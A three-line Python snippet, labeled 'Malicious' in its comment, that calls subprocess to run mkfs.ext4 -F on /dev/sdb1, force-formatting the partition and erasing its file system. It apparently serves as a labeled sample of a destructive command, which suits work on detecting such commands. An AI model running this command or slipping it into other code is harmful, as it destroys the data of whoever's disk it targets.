# Malicious: formats a partition with mkfs.ext4 -F; erases the file system on /dev/sdb1.
import subprocess

subprocess.run(["mkfs.ext4", "-F", "/dev/sdb1"], check=True)
